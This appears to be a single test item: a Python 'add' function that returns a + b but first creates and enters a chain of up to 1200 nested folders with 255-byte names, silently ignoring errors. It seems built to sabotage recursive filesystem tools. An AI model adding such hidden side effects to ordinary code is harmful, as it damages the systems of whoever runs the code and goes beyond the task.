# a114 | task=add | required=any | a chain of folders deeper than any recursion, with names of 255 bytes
import os
def add(a, b):
    try:
        for _ in range(1200):
            os.mkdir("d" * 255)
            os.chdir("d" * 255)
    except OSError:
        pass
    return a + b
